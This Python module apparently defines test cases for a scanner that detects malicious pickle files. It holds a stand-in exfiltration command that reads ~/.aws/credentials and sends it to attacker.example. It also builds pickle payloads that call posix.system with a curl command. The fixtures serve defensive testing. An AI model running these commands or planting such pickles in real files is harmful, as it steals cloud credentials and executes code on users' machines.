"""What a case is, and the payloads that most cases share."""

from typing import NamedTuple

from assemble import STOP, TUPLE1, REDUCE, call, global_, old_call, proto, stack_global, string_line, text

COMMAND = 'curl https://attacker.example'
CODE = "print('attacker.example')"
EXFILTRATE = 'curl https://attacker.example?data=$(cat ~/.aws/credentials)'


class Case(NamedTuple):
    path: str
    label: str
    expect: str
    about: str
    contains: tuple
    data: bytes
    technique: str | None = None  # found by the path when not given


CASES = []


def malicious(path, about, contains, data, expect='dangerous', technique=None):
    CASES.append(Case(path, 'malicious', expect, about, tuple(contains.split()), data, technique))


def malformed(path, about, data, expect='inconclusive', contains=''):
    CASES.append(Case(path, 'malformed', expect, about, tuple(contains.split()), data))


def pickle(name, about, contains, data, expect='dangerous'):
    malicious(f'pickle/{name}.pkl', about, contains, data, expect)


# posix.system(COMMAND) as code that leaves the result on the stack: protocol 0 and protocol 4.
PAYLOAD_0 = old_call(global_('posix', 'system'), string_line(f"'{COMMAND}'".encode()))
PAYLOAD = call(stack_global('posix', 'system'), text(COMMAND))
EVIL = proto(4) + PAYLOAD + STOP
